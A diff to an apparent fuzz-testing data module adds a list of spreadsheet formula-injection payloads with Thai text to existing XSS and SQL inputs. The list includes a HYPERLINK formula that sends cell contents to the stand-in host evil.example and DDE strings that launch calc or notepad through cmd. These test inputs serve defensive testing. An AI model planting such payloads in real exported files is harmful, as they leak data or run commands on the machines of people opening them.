@@ -60,6 +60,21 @@ SQL = [
     "%%%%",
     "\\",
 ]
+# Text a spreadsheet program would run as a formula if a cell held it as it is (formula or
+# "CSV" injection, OWASP): each starts with = + - @, a tab or a carriage return, and goes
+# on in Thai. Error codes (#N/A…) are not formulas but openpyxl would type them as errors.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")',
+    "=1+1 โครงการพัฒนาคลอง",
+    "+1+cmd|' /C calc'!A0 ข้อความ",
+    "-2+3+cmd|' /C calc'!A0 ปัญหา",
+    "@SUM(1+1)*cmd|' /C calc'!A0 อุปสรรค",
+    "\t=1+1 แท็บนำหน้า",
+    "\r=1+1 ขึ้นบรรทัดนำหน้า",
+    "=cmd|' /C notepad'!'A1' ขั้นตอน",
+    "#N/A",
+    "-",
+]
 ODD_UNICODE = [
     "\x00",
     "abc\x00def",
@@ -210,7 +225,7 @@ PLAIN_TEXT = st.text(
 
 def texts() -> st.SearchStrategy[str]:
     """Free text: payloads, odd Unicode, huge strings, and random mixes of them."""
-    fixed = st.sampled_from(XSS + SQL + ODD_UNICODE)
+    fixed = st.sampled_from(XSS + SQL + FORMULAS + ODD_UNICODE)
     return st.one_of(
         fixed,
         st.sampled_from(HUGE),
